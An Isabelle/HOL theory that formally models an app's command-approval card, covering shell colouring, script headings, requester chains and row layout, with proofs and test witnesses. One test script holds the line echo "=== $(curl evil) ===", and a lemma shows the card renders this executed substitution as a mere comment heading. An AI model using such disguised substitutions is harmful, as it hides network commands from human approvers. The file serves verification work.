(* ===== verification/App_Script.thy ===== *)
theory App_Script
  imports App_Card "HOL-Library.Sublist"
begin

text \<open>
  What the card says: \<open>app/Sources/KeywardApp/Highlight.swift\<close>, which colours a command and
  finds the headings of a script, and the text of \<open>ApprovalView\<close> in \<open>Approval.swift\<close>: its rows,
  the chain of who asked, the summary of a push and the lines of a script. A Swift string is
  worked on as its \<open>Character\<close>s; which bytes make one, which of them are letters and digits,
  how they change case, how a \<open>Double\<close> is written and in which order a dictionary is walked
  is Swift's and a parameter. Fonts and colours are left out;
  sizes are in \<open>App_Panel\<close>, but for the count of rows the panel makes room for.
\<close>

record swift =
  sw_chars :: "string \<Rightarrow> string list"
  sw_letter :: "string \<Rightarrow> bool"
  sw_number :: "string \<Rightarrow> bool"
  sw_lower :: "string \<Rightarrow> string"
  sw_upper :: "string \<Rightarrow> string"
  sw_blank :: "string \<Rightarrow> bool"
  sw_double :: "f64 \<Rightarrow> string"
  sw_order :: "string list \<Rightarrow> string list"

text \<open>The \<open>Character\<close>s of a string are what it is made of.\<close>

definition chars_ok :: "swift \<Rightarrow> bool" where
  "chars_ok sw \<longleftrightarrow> (\<forall>s. concat (sw_chars sw s) = s)"

section \<open>Colouring a command\<close>

datatype token = CommentToken | StringToken | VariableToken | KeywordToken | OperToken | PlainToken

definition shell_keywords :: "string list" where
  "shell_keywords =
    [''for'', ''in'', ''do'', ''done'', ''if'', ''then'', ''else'', ''elif'', ''fi'', ''while'',
     ''case'', ''esac'', ''function'', ''return'', ''local'', ''export'', ''set'', ''echo'',
     ''printf'', ''cd'', ''exit'', ''sudo'']"

text \<open>The end of a quoted string: a backslash counts only between double quotes.\<close>

function string_end :: "string list \<Rightarrow> string \<Rightarrow> nat \<Rightarrow> nat" where
  "string_end chars quote j =
    (if j < length chars then
       if chars ! j = [CHR 0x5C] \<and> quote = [CHR 0x22] then string_end chars quote (j + 2)
       else if chars ! j = quote then j + 1
       else string_end chars quote (j + 1)
     else j)"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(chars, quote, j). length chars - j)") auto

text \<open>The end of a substitution, with its nesting.\<close>

function nest_end :: "string list \<Rightarrow> string \<Rightarrow> string \<Rightarrow> int \<Rightarrow> nat \<Rightarrow> nat" where
  "nest_end chars op_c cl_c depth j =
    (if j < length chars then
       let depth1 = (if chars ! j = op_c then depth + 1 else depth);
           depth2 = (if chars ! j = cl_c then depth1 - 1 else depth1)
       in if chars ! j = cl_c \<and> depth2 = 0 then j + 1
          else nest_end chars op_c cl_c depth2 (j + 1)
     else j)"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(chars, op_c, cl_c, depth, j). length chars - j)") auto

function run_end :: "(string \<Rightarrow> bool) \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> nat" where
  "run_end p chars j = (if j < length chars \<and> p (chars ! j) then run_end p chars (j + 1) else j)"
  by pat_completeness auto
termination by (relation "measure (\<lambda>(p, chars, j). length chars - j)") auto

declare string_end.simps [simp del] nest_end.simps [simp del] run_end.simps [simp del]

lemma string_end_ge: "j \<le> string_end chars quote j"
  by (induction chars quote j rule: string_end.induct) (subst string_end.simps, auto)

lemma nest_end_ge: "j \<le> nest_end chars op_c cl_c depth j"
  by (induction chars op_c cl_c depth j rule: nest_end.induct)
     (subst nest_end.simps, auto simp: Let_def intro: Suc_leD)

lemma run_end_ge: "j \<le> run_end p chars j"
  by (induction p chars j rule: run_end.induct) (subst run_end.simps, auto)

definition substitution_end :: "swift \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> nat" where
  "substitution_end sw chars i =
    (let j = i + 1
     in if j < length chars \<and> (chars ! j = ''{'' \<or> chars ! j = ''('')
        then nest_end chars (chars ! j) (if chars ! j = ''{'' then ''}'' else '')'') 0 j
        else run_end (\<lambda>c. sw_letter sw c \<or> sw_number sw c \<or> c = ''_'') chars j)"

lemma substitution_end_gt: "i < substitution_end sw chars i"
  using nest_end_ge [of "i + 1" chars] run_end_ge [of "i + 1"]
  by (auto simp: substitution_end_def Let_def Suc_le_eq)

text \<open>The end of the piece that starts at an index, and how it is coloured; the slice \<open>chars[i..<min(j, count)]\<close>.\<close>

definition upto :: "string list \<Rightarrow> nat \<Rightarrow> nat \<Rightarrow> string" where
  "upto chars i j = concat (take (min j (length chars) - i) (drop i chars))"

definition word_char :: "swift \<Rightarrow> string \<Rightarrow> bool" where
  "word_char sw c \<longleftrightarrow> sw_letter sw c \<or> sw_number sw c \<or> c = ''_'' \<or> c = ''-''"

definition word_end :: "swift \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> nat" where
  "word_end sw chars i = run_end (word_char sw) chars i"

definition piece :: "swift \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> nat \<times> token" where
  "piece sw chars i =
    (let c = chars ! i
     in if c = ''#'' \<and> (i = 0 \<or> chars ! (i - 1) = '' '') then (length chars, CommentToken)
        else if c = [CHR 0x22] \<or> c = [CHR 0x27] then (string_end chars c (i + 1), StringToken)
        else if c = ''$'' then (substitution_end sw chars i, VariableToken)
        else if sw_letter sw c \<or> c = ''_'' then
          (let j = word_end sw chars i
           in (j, if List.member shell_keywords (upto chars i j) then KeywordToken else PlainToken))
        else if List.member [''|'', '';'', ''&'', ''<'', ''>'', ''('', '')'', ''=''] c
        then (i + 1, OperToken)
        else (i + 1, PlainToken))"

lemma piece_gt: "i < length chars \<Longrightarrow> i < fst (piece sw chars i)"
proof -
  assume i: "i < length chars"
  have w: "i < word_end sw chars i" if "sw_letter sw (chars ! i) \<or> chars ! i = ''_''"
    using that i run_end_ge [of "Suc i" "word_char sw" chars]
    by (subst word_end_def, subst run_end.simps) (auto simp: word_char_def)
  have s: "i < string_end chars q (Suc i)" for q using string_end_ge [of "Suc i" chars q] by simp
  show ?thesis using i w s substitution_end_gt [of i sw chars] by (auto simp: piece_def Let_def)
qed

function highlight :: "swift \<Rightarrow> string list \<Rightarrow> nat \<Rightarrow> (string \<times> token) list" where
  "highlight sw chars i =
    (if i < length chars then
       case piece sw chars i of (j, t) \<Rightarrow> (upto chars i j, t) # highlight sw chars j
     else [])"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(sw, chars, i). length chars - i)", goal_cases)
  case (2 sw chars i j t)
  then show ?case using piece_gt [of i chars sw] by (cases "piece sw chars i") auto
qed simp

declare highlight.simps [simp del]

definition attributed :: "swift \<Rightarrow> string \<Rightarrow> bool \<Rightarrow> (string \<times> token) list" where
  "attributed sw line is_comment =
    (if is_comment then [(line, CommentToken)] else highlight sw (sw_chars sw line) 0)"

lemma highlight_text: "concat (map fst (highlight sw chars i)) = concat (drop i chars)"
proof (induction sw chars i rule: highlight.induct)
  case (1 sw chars i)
  show ?case
  proof (cases "i < length chars")
    case True
    obtain j t where p: "piece sw chars i = (j, t)" by (cases "piece sw chars i")
    have j: "i < j" using piece_gt [OF True, of sw] p by simp
    have "concat (drop i chars) = upto chars i j @ concat (drop j chars)"
    proof (cases "j \<le> length chars")
      case True
      then have "drop i chars = take (j - i) (drop i chars) @ drop j chars"
        using j append_take_drop_id [of "j - i" "drop i chars"] by simp
      with True show ?thesis
        using concat_append [of "take (j - i) (drop i chars)" "drop j chars"] by (simp add: upto_def min_def)
    next
      case False
      then show ?thesis by (simp add: upto_def min_def)
    qed
    with 1 [OF True p [symmetric]] show ?thesis
      using True by (subst highlight.simps) (simp add: p)
  next
    case False
    then show ?thesis by (subst highlight.simps) simp
  qed
qed

section \<open>The lines of a script\<close>

text \<open>\<open>hasPrefix\<close> of a text of one-byte characters.\<close>

definition has_prefix :: "swift \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "has_prefix sw s p \<longleftrightarrow> take (length p) (sw_chars sw s) = map (\<lambda>c. [c]) p"

definition section_title :: "swift \<Rightarrow> string \<Rightarrow> (string \<times> string) option" where
  "section_title sw line =
    (let t = trim_by (sw_blank sw) line
     in if \<not> has_prefix sw t ''echo '' then None
        else
          (case sw_chars sw (trim_by (sw_blank sw) (concat (drop 5 (sw_chars sw t)))) of
             [] \<Rightarrow> None
           | q # qs \<Rightarrow>
               if q \<noteq> [CHR 0x22] \<and> q \<noteq> [CHR 0x27] then None
               else
                 (case position (\<lambda>c. c = q) qs of
                    None \<Rightarrow> None
                  | Some close \<Rightarrow>
                      let inner = concat (take close qs)
                      in if \<not> (has_prefix sw inner ''==='' \<or> has_prefix sw inner ''---'') then None
                         else
                           let title = trim_by (List.member [''='', ''-'', '' '']) inner;
                               rest = trim_by (sw_blank sw) (concat (drop (close + 1) qs));
                               rest = (if has_prefix sw rest '';''
                                       then trim_by (sw_blank sw) (concat (drop 1 (sw_chars sw rest)))
                                       else rest)
                           in Some (if title = [] then inner else title, rest))))"

record code_line =
  cl_id :: nat
  cl_text :: string
  cl_comment :: bool

fun code_loop :: "swift \<Rightarrow> code_line list \<Rightarrow> string list \<Rightarrow> code_line list" where
  "code_loop sw out [] = out"
| "code_loop sw out (l # ls) =
    (case section_title sw l of
       Some (title, rest) \<Rightarrow>
         let out = out @ [\<lparr>cl_id = length out, cl_text = ''# '' @ title, cl_comment = True\<rparr>];
             out = (if rest \<noteq> [] then out @ [\<lparr>cl_id = length out, cl_text = rest, cl_comment = False\<rparr>] else out)
         in code_loop sw out ls
     | None \<Rightarrow> code_loop sw (out @ [\<lparr>cl_id = length out, cl_text = l, cl_comment = False\<rparr>]) ls)"

definition script_lines :: "swift \<Rightarrow> string \<Rightarrow> string list" where
  "script_lines sw raw = map concat (split_on [CHR 0x0A] (sw_chars sw raw))"

definition code_lines :: "swift \<Rightarrow> string \<Rightarrow> code_line list" where
  "code_lines sw raw = code_loop sw [] (script_lines sw raw)"

definition SCRIPT_MAX_LINES :: nat where "SCRIPT_MAX_LINES = 10"

definition is_multiline_command :: "swift \<Rightarrow> string \<Rightarrow> bool" where
  "is_multiline_command sw c \<longleftrightarrow> List.member (sw_chars sw c) [CHR 0x0A] \<or> 72 < length (sw_chars sw c)"

text \<open>The block of a script: its title, the lines shown, and the line that counts those that are not.\<close>

record script_block =
  sb_title :: string
  sb_lines :: "(string \<times> token) list list"
  sb_more :: "string option"

definition script_block_of :: "swift \<Rightarrow> pending_signature \<Rightarrow> string \<Rightarrow> script_block" where
  "script_block_of sw ctx raw =
    (let all_lines = code_lines sw raw; shown = take SCRIPT_MAX_LINES all_lines;
         hidden = length all_lines - length shown
     in \<lparr>sb_title = (if ps_script ctx = Some True then ''SCRIPT'' else ''COMMAND'') @
           (if 1 < length all_lines then middle_dot @ show_nat (length all_lines) @ '' LINES'' else []),
         sb_lines = map (\<lambda>l. attributed sw (cl_text l) (cl_comment l)) shown,
         sb_more =
           (if 0 < hidden
            then Some (ellipsis @ '' '' @ show_nat hidden @ '' more line'' @ (if hidden = 1 then [] else ''s''))
            else None)\<rparr>)"

text \<open>What a line of the script becomes: itself, or a heading and what comes after it.\<close>

definition line_pieces :: "swift \<Rightarrow> string \<Rightarrow> (string \<times> bool) list" where
  "line_pieces sw l =
    (case section_title sw l of
       None \<Rightarrow> [(l, False)]
     | Some (title, rest) \<Rightarrow> (''# '' @ title, True) # (if rest = [] then [] else [(rest, False)]))"

lemma code_loop_pieces:
  "map (\<lambda>l. (cl_text l, cl_comment l)) (code_loop sw out ls) =
    map (\<lambda>l. (cl_text l, cl_comment l)) out @ concat (map (line_pieces sw) ls)"
  by (induction sw out ls rule: code_loop.induct)
     (auto simp: line_pieces_def Let_def split: option.splits)

lemma code_loop_ids:
  "map cl_id out = [0..<length out] \<Longrightarrow>
    map cl_id (code_loop sw out ls) = [0..<length (code_loop sw out ls)]"
  by (induction sw out ls rule: code_loop.induct) (auto simp: Let_def split: option.splits)

lemma code_lines_pieces:
  "map (\<lambda>l. (cl_text l, cl_comment l)) (code_lines sw raw) = concat (map (line_pieces sw) (script_lines sw raw)) \<and>
    map cl_id (code_lines sw raw) = [0..<length (code_lines sw raw)]"
  by (simp add: code_lines_def code_loop_pieces code_loop_ids)

lemma script_lines_text:
  assumes "chars_ok sw"
  shows "join [CHR 0x0A] (script_lines sw raw) = raw"
proof -
  have "join [CHR 0x0A] (map concat (split_on [CHR 0x0A] cs)) = concat cs" for cs
  proof (induction cs)
    case (Cons c cs)
    obtain y ys where "split_on [CHR 0x0A] cs = y # ys"
      using split_on_not_Nil [of "[CHR 0x0A]" cs] by (cases "split_on [CHR 0x0A] cs") auto
    with Cons show ?case by (cases ys) auto
  qed simp
  with assms show ?thesis by (simp add: script_lines_def chars_ok_def)
qed

section \<open>Who asked\<close>

definition same_name :: "swift \<Rightarrow> string \<Rightarrow> string \<Rightarrow> bool" where
  "same_name sw a b \<longleftrightarrow> sw_lower sw a = sw_lower sw b"

fun chain_steps :: "swift \<Rightarrow> string list \<Rightarrow> string list \<Rightarrow> string list" where
  "chain_steps sw steps [] = steps"
| "chain_steps sw steps (name # names) =
    (if sw_lower sw name = ''disclaimer'' then chain_steps sw steps names
     else if steps \<noteq> [] \<and> same_name sw (last steps) name then chain_steps sw steps names
     else chain_steps sw (steps @ [name]) names)"

definition claude_session :: "string \<Rightarrow> string" where
  "claude_session s =
    ''claude '' @ em_dash @ '' '' @ [CHR 0xE2, CHR 0x80, CHR 0x9C] @ s @ [CHR 0xE2, CHR 0x80, CHR 0x9D]"

definition link_sep :: string where
  "link_sep = '' '' @ '' '' @ [CHR 0xE2, CHR 0x80, CHR 0xBA] @ '' '' @ '' ''"

definition chain_links :: "swift \<Rightarrow> pending_signature \<Rightarrow> string list" where
  "chain_links sw ctx =
    (let steps = chain_steps sw [] (ps_chain ctx);
         steps = (case ps_session ctx of
             None \<Rightarrow> steps
           | Some s \<Rightarrow>
               (case position (\<lambda>n. sw_lower sw n = ''claude'') steps of
                  None \<Rightarrow> steps | Some i \<Rightarrow> steps[i := claude_session s]));
         steps = (case ps_app ctx of
             None \<Rightarrow> steps
           | Some app \<Rightarrow> if steps \<noteq> [] \<and> same_name sw (hd steps) app then steps else app # steps)
     in if 7 < length steps then take 3 steps @ [ellipsis] @ drop (length steps - 3) steps else steps)"

definition requested_by_full :: "swift \<Rightarrow> pending_signature \<Rightarrow> string option" where
  "requested_by_full sw ctx =
    (let steps = chain_links sw ctx in if steps = [] then None else Some (join link_sep steps))"

text \<open>\<open>components(separatedBy:)\<close> with a separator that is not empty.\<close>

function components :: "string \<Rightarrow> string \<Rightarrow> string list" where
  "components sep s =
    (case find_sub s sep of
       None \<Rightarrow> [s]
     | Some i \<Rightarrow> if sep = [] then [s] else take i s # components sep (drop (i + length sep) s))"
  by pat_completeness auto
termination
proof (relation "measure (\<lambda>(sep, s). length s)", goal_cases)
  case (2 sep s i)
  then have "starts_with (drop i s) sep" using find_sub_Some by simp
  then have "s \<noteq> []" using 2(2) by (cases s) (auto elim: starts_withE)
  then show ?case using 2(2) by simp
qed simp

declare components.simps [simp del]

text \<open>The first word of a link; a link of spaces, or of nothing, is itself.\<close>

definition link_word :: "swift \<Rightarrow> string \<Rightarrow> string" where
  "link_word sw link =
    (case dropWhile (\<lambda>c. c = '' '') (sw_chars sw link) of
       [] \<Rightarrow> link | cs \<Rightarrow> concat (takeWhile (\<lambda>c. c \<noteq> '' '') cs))"

definition requested_by :: "swift \<Rightarrow> pending_signature \<Rightarrow> (string \<times> string) option" where
  "requested_by sw ctx =
    map_option (\<lambda>full. (join link_sep (map (link_word sw) (components link_sep full)), full))
      (requested_by_full sw ctx)"

section \<open>The rows\<close>

record field_row =
  fr_label :: string
  fr_value :: string
  fr_mono :: bool
  fr_lines :: nat
  fr_detail :: "string option"

datatype card_row = FieldRow field_row | ChangesRow

definition plain_field :: "string \<Rightarrow> string \<Rightarrow> field_row" where
  "plain_field label v =
    \<lparr>fr_label = label, fr_value = v, fr_mono = True, fr_lines = 1, fr_detail = None\<rparr>"

definition when_some :: "'a option \<Rightarrow> ('a \<Rightarrow> card_row list) \<Rightarrow> card_row list" where
  "when_some a f = (case a of None \<Rightarrow> [] | Some x \<Rightarrow> f x)"

definition card_rows :: "swift \<Rightarrow> pending_signature \<Rightarrow> card_row list" where
  "card_rows sw ctx =
    when_some (ps_sign_in ctx) (\<lambda>ends.
      [FieldRow ((plain_field ''Sign-in'' (''Covers every repository and host '' @ ends))\<lparr>fr_mono := False\<rparr>)]) @
    when_some (ps_subject ctx) (\<lambda>s. [FieldRow ((plain_field ''Commit'' s)\<lparr>fr_mono := False, fr_lines := 2\<rparr>)]) @
    (if is_push ctx then [ChangesRow] else []) @
    when_some (ps_command ctx) (\<lambda>c.
      if \<not> is_multiline_command sw c then [FieldRow ((plain_field ''Command'' c)\<lparr>fr_lines := 2\<rparr>)] else []) @
    when_some (ps_directory ctx) (\<lambda>d. [FieldRow ((plain_field ''Directory'' d)\<lparr>fr_lines := 2\<rparr>)]) @
    when_some (ps_host ctx) (\<lambda>h.
      if \<not> is_push ctx \<and> \<not> contains (ps_headline ctx) h then [FieldRow (plain_field ''Server'' h)] else []) @
    when_some (requested_by sw ctx) (\<lambda>(short, full).
      [FieldRow ((plain_field ''Requested by'' short)\<lparr>fr_mono := False, fr_lines := 2, fr_detail := Some full\<rparr>)]) @
    when_some (ps_key ctx) (\<lambda>k. [FieldRow (plain_field ''Key'' k)])"

text \<open>The script's block, above the rows.\<close>

definition card_script :: "swift \<Rightarrow> pending_signature \<Rightarrow> script_block option" where
  "card_script sw ctx =
    (case ps_command ctx of
       None \<Rightarrow> None
     | Some c \<Rightarrow> if is_multiline_command sw c then Some (script_block_of sw ctx c) else None)"

definition counted_commits :: "int \<Rightarrow> string" where
  "counted_commits n = show_int n @ '' commit'' @ (if n = 1 then [] else ''s'')"

definition changes_summary :: "pending_signature \<Rightarrow> string" where
  "changes_summary ctx =
    (let parts =
       (case ps_commit_count ctx of
          None \<Rightarrow> []
        | Some n \<Rightarrow>
            [if ps_upstream ctx = None then ''new branch, '' @ counted_commits n else counted_commits n]) @
       (case ps_stat ctx of None \<Rightarrow> [] | Some s \<Rightarrow> [s])
     in if parts = [] then ''nothing to send'' else join ('' '' @ middle_dot @ '' '') parts)"

definition COMMIT_MAX_LINES :: nat where "COMMIT_MAX_LINES = 12"

text \<open>The unfolded list of commits, and the line under it.\<close>

definition shown_commits :: "pending_signature \<Rightarrow> string list \<times> string option" where
  "shown_commits ctx =
    (let shown = take COMMIT_MAX_LINES (unwrap_or (ps_commits ctx) [])
     in (shown,
         case ps_commit_count ctx of
           None \<Rightarrow> None
         | Some n \<Rightarrow>
             if int (length shown) < n
             then Some (ellipsis @ '' '' @ show_int (n - int (length shown)) @ '' more'') else None))"

text \<open>The count of rows the panel makes room for (\<open>preferredHeight\<close>).\<close>

definition rows_counted :: "swift \<Rightarrow> pending_signature \<Rightarrow> nat" where
  "rows_counted sw ctx =
    (if ps_sign_in ctx \<noteq> None then 1 else 0) + (if ps_subject ctx \<noteq> None then 1 else 0) +
    (if is_push ctx then 1 else 0) +
    (case ps_command ctx of None \<Rightarrow> 0 | Some c \<Rightarrow> if \<not> is_multiline_command sw c then 1 else 0) +
    (if ps_directory ctx \<noteq> None then 1 else 0) +
    (case ps_host ctx of None \<Rightarrow> 0 | Some h \<Rightarrow> if \<not> is_push ctx \<and> \<not> contains (ps_headline ctx) h then 1 else 0) +
    1 + (if ps_key ctx \<noteq> None then 1 else 0)"

section \<open>What the card shows\<close>

text \<open>The rows of a card come in one order, each at most once.\<close>

definition row_label :: "card_row \<Rightarrow> string" where
  "row_label r = (case r of FieldRow f \<Rightarrow> fr_label f | ChangesRow \<Rightarrow> ''Changes'')"

definition row_order :: "string list" where
  "row_order =
    [''Sign-in'', ''Commit'', ''Changes'', ''Command'', ''Directory'', ''Server'', ''Requested by'', ''Key'']"

lemma row_labels [simp]:
  "row_label (FieldRow ((plain_field l v)\<lparr>fr_mono := m, fr_lines := n, fr_detail := d\<rparr>)) = l"
  "row_label (FieldRow ((plain_field l v)\<lparr>fr_mono := m, fr_lines := n\<rparr>)) = l"
  "row_label (FieldRow ((plain_field l v)\<lparr>fr_lines := n\<rparr>)) = l"
  "row_label (FieldRow ((plain_field l v)\<lparr>fr_mono := m\<rparr>)) = l"
  "row_label (FieldRow (plain_field l v)) = l" "row_label ChangesRow = ''Changes''"
  by (simp_all add: row_label_def plain_field_def)

lemma label_when_some:
  "l \<in> set (map row_label (when_some a f)) \<longleftrightarrow> (\<exists>x. a = Some x \<and> l \<in> set (map row_label (f x)))"
  by (cases a) (auto simp: when_some_def)

lemma card_has_label:
  "''Sign-in'' \<in> set (map row_label (card_rows sw ctx)) \<longleftrightarrow> ps_sign_in ctx \<noteq> None"
  "''Command'' \<in> set (map row_label (card_rows sw ctx)) \<longleftrightarrow>
    (\<exists>c. ps_command ctx = Some c \<and> \<not> is_multiline_command sw c)"
  unfolding card_rows_def map_append set_append Un_iff label_when_some
  by (auto split: prod.splits if_splits)

lemma labels_when_some:
  "(\<And>x. f x = [] \<or> map row_label (f x) = [l]) \<Longrightarrow> subseq (map row_label (when_some a f)) [l]"
  by (cases a) (auto simp: when_some_def, metis subseq_order.order_refl list.simps(8) list_emb_Nil)

lemma card_rows_in_order: "subseq (map row_label (card_rows sw ctx)) row_order"
proof -
  have cs: "subseq (xs @ ys) (l # ls)" if "subseq xs [l]" "subseq ys ls" for xs ys l and ls :: "string list"
    using list_emb_append_mono [OF that] by simp
  show ?thesis
    unfolding card_rows_def row_order_def map_append
    by (intro cs labels_when_some) (simp_all split: prod.splits if_splits)
qed

lemma subseq_distinct: "subseq xs ys \<Longrightarrow> distinct ys \<Longrightarrow> distinct xs"
  by (induction rule: list_emb.induct) (auto dest: list_emb_set)

lemma card_rows_distinct: "distinct (map row_label (card_rows sw ctx))"
  using card_rows_in_order [of sw ctx] by (rule subseq_distinct) (simp add: row_order_def)

text \<open>The panel never makes room for too few rows.\<close>

lemma rows_fit:
  "length (card_rows sw ctx) + (if requested_by sw ctx = None then 1 else 0) = rows_counted sw ctx"
proof -
  have w: "length (when_some a f) = (if a \<noteq> None then 1 else 0)" if "\<And>x. length (f x) = 1"
    for a :: "'b option" and f
    using that by (cases a) (auto simp: when_some_def)
  have c: "length (when_some a (\<lambda>x. if p x then [r x] else [])) = (case a of None \<Rightarrow> 0 | Some x \<Rightarrow> if p x then 1 else 0)"
    for a :: "string option" and p r
    by (cases a) (auto simp: when_some_def)
  show ?thesis
    unfolding card_rows_def rows_counted_def length_append c by (simp add: w split: prod.splits)
qed

lemma chain_links_short: "length (chain_links sw ctx) \<le> 7"
  by (simp add: chain_links_def Let_def)

lemma attributed_text: "chars_ok sw \<Longrightarrow> concat (map fst (attributed sw line is_comment)) = line"
  by (simp add: attributed_def highlight_text chars_ok_def)

lemma script_block_text:
  assumes "chars_ok sw"
  shows "map (\<lambda>l. concat (map fst l)) (sb_lines (script_block_of sw ctx raw)) =
    take SCRIPT_MAX_LINES (map fst (concat (map (line_pieces sw) (script_lines sw raw))))"
proof -
  have "map fst (concat (map (line_pieces sw) (script_lines sw raw))) = map cl_text (code_lines sw raw)"
    by (simp flip: conjunct1 [OF code_lines_pieces] add: comp_def)
  then show ?thesis
    by (simp add: script_block_of_def Let_def attributed_text [OF assms] comp_def take_map)
qed

lemma script_block_more:
  "sb_more (script_block_of sw ctx raw) = None \<longleftrightarrow>
    length (concat (map (line_pieces sw) (script_lines sw raw))) \<le> SCRIPT_MAX_LINES"
proof -
  have "length (concat (map (line_pieces sw) (script_lines sw raw))) = length (code_lines sw raw)"
    using arg_cong [OF conjunct1 [OF code_lines_pieces [of sw raw]], of length] by simp
  then show ?thesis by (auto simp: script_block_of_def Let_def min_def)
qed


text \<open>
  C38: From the decision to the card: a request that opens a sign-in leads the card with what
  approving it covers, for how long and whether a lock ends it first, above every other row;
  and no card of a request that opens none has such a row.
\<close>

theorem grant_leads_the_card:
  assumes "own_plan cfg e sc now st = (p, st')" and "own_message cfg ou e who p = Some m"
  shows "if 0 < cf_sign_in_secs cfg \<and> \<not> pl_live p
    then \<exists>rows. card_rows sw (pending_of m) =
      FieldRow \<lparr>fr_label = ''Sign-in'', fr_value = ''Covers every repository and host for '' @ span (cf_sign_in_secs cfg) @
        (if en_ends_at_lock e then '' or until the screen locks'' else []),
        fr_mono = False, fr_lines = 1, fr_detail = None\<rparr> # rows
    else ''Sign-in'' \<notin> set (map row_label (card_rows sw (pending_of m)))"
proof -
  have "cf_require_approval cfg" using assms(2) by (auto simp: own_message_def split: if_splits)
  from card_tells_the_grant [OF assms(1) this, of ou who] assms(2)
  have s: "ps_sign_in (pending_of m) =
      (if 0 < cf_sign_in_secs cfg \<and> \<not> pl_live p
       then Some (''for '' @ span (cf_sign_in_secs cfg) @
         (if en_ends_at_lock e then '' or until the screen locks'' else []))
       else None)"
    by (simp add: pending_of_def)
  show ?thesis
  proof (cases "0 < cf_sign_in_secs cfg \<and> \<not> pl_live p")
    case True
    with s show ?thesis by (simp add: card_rows_def when_some_def plain_field_def)
  next
    case False
    then have "ps_sign_in (pending_of m) = None" using s by simp
    then have "''Sign-in'' \<notin> set (map row_label (card_rows sw (pending_of m)))"
      by (simp add: card_has_label(1) del: set_map)
    then show ?thesis by (simp only: False if_False not_False_eq_True)
  qed
qed

text \<open>
  A Swift of one character per code point, with the letters and digits of ASCII, and what it
  makes of a heading that the shell expands: the substitution in it is run, and is shown as a
  comment.
\<close>

definition test_swift :: swift where
  "test_swift =
    \<lparr>sw_chars = utf8_chars,
     sw_letter = (\<lambda>c. c \<noteq> [] \<and> (is_ascii_lower (hd c) \<or> is_ascii_upper (hd c))),
     sw_number = (\<lambda>c. c \<noteq> [] \<and> is_ascii_digit (hd c)), sw_lower = map ascii_lower,
     sw_upper = map ascii_upper, sw_blank = (\<lambda>c. c = '' '' \<or> c = [CHR 0x09]), sw_double = (\<lambda>_. []),
     sw_order = (\<lambda>ks. ks)\<rparr>"

lemma test_chars: "chars_ok test_swift"
  by (simp add: chars_ok_def test_swift_def concat_utf8_chars)

definition heading_script :: string where
  "heading_script = ''echo '' @ [CHR 0x22] @ ''=== $(curl evil) ==='' @ [CHR 0x22] @ [CHR 0x0A] @ ''make''"

lemma heading_hides_substitution:
  "code_lines test_swift heading_script =
    [\<lparr>cl_id = 0, cl_text = ''# $(curl evil)'', cl_comment = True\<rparr>,
     \<lparr>cl_id = 1, cl_text = ''make'', cl_comment = False\<rparr>]"
  by code_simp

definition script_card :: pending_signature where
  "script_card = (pending_of (plain_message ''run a command''))\<lparr>ps_command := Some heading_script\<rparr>"

lemma heading_pieces:
  "is_multiline_command test_swift heading_script \<and>
    concat (map (line_pieces test_swift) (script_lines test_swift heading_script)) =
      [(''# $(curl evil)'', True), (''make'', False)]"
  by code_simp


theorem grant_leads_the_card_witness:
  "\<exists>m rows. own_message test_config test_outside test_enclave nobody
      (fst (own_plan test_config test_enclave default_scope (Fin 100)
        (look_at_screen Unlocked (Fin 100) test_daemon))) = Some m \<and>
    card_rows test_swift (pending_of m) =
      FieldRow \<lparr>fr_label = ''Sign-in'',
        fr_value = ''Covers every repository and host for 6 hours or until the screen locks'',
        fr_mono = False, fr_lines = 1, fr_detail = None\<rparr> # rows"
proof -
  have s: "span (Fin 21600) = ''6 hours''"
    using whole_seconds [of 21600] by (simp add: span_def show_nat.simps digit_def)
  have c: "0 < cf_sign_in_secs test_config" "en_ends_at_lock test_enclave" "cf_sign_in_secs test_config = Fin 21600"
    "cf_require_approval test_config"
    by (simp_all add: test_config_def test_enclave_def zero_f64_def)
  then obtain m where m: "own_message test_config test_outside test_enclave nobody
      (fst (own_plan test_config test_enclave default_scope (Fin 100)
        (look_at_screen Unlocked (Fin 100) test_daemon))) = Some m"
    by (auto simp: own_message_def)
  from grant_leads_the_card [OF test_plan, of test_outside nobody m test_swift] m c s
  show ?thesis by (simp add: test_plan)
qed

end
